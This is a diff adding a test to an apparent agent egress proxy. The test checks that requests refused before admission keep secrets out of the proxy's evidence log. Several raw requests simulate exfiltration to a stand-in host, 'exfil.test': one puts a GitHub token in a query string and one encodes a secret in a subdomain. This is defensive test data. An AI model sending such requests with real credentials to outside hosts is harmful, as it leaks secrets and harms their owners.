@@ -232,3 +232,44 @@ test('content views: Basic credentials decoded, form and JSON escapes undone, ev
   const garbled = bodyViews(Buffer.from('not gzip'), 'gzip', 1024);
   assert.ok(!garbled.ok && /cannot be decoded/.test(garbled.reason));
 });
+
+test('requests refused before admission keep their secrets out of the evidence too', async () => {
+  const github = SAMPLES['github-token'] ?? '';
+  const proxy = await startEngine({
+    limits: { maxActiveTunnels: 0 },
+    secretValues: { AGENT_TOKEN: TOKEN },
+    policy: `version: "1.0"
+egress:
+  - destination: "*.exfil.test"
+secrets:
+  - env: AGENT_TOKEN
+    allow: ["api.github.com"]
+`,
+  });
+  try {
+    const noUpgrade = await rawExchange(
+      proxy.port,
+      `GET ws://a.exfil.test/?t=${github} HTTP/1.1\r\nHost: a.exfil.test\r\n\r\n`,
+    );
+    assert.match(noUpgrade.text, /^HTTP\/1\.1 400 /);
+    const noHost = await rawExchange(
+      proxy.port,
+      `GET http://a.exfil.test/?t=${github} HTTP/1.1\r\n\r\n`,
+    );
+    assert.match(noHost.text, /^HTTP\/1\.1 400 /);
+    const overLimit = await rawExchange(
+      proxy.port,
+      `CONNECT agent-secret.5f2b9c1e7a.exfil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n`,
+    );
+    assert.match(overLimit.text, /^HTTP\/1\.1 503 /);
+    await proxy.stop();
+    const evidence = evidenceText(proxy);
+    assert.equal(decisions(readEvidenceDir(proxy.dir).receipts).length, 3);
+    assert.ok(!evidence.includes(github.slice(4)), 'the GitHub token leaked');
+    assert.ok(!evidence.includes('5f2b9c1e7a'), 'the bound secret leaked');
+    assert.match(evidence, /\[REDACTED:github-token\]/);
+  } finally {
+    await proxy.stop();
+    cleanup(join(proxy.dir, '..'));
+  }
+});
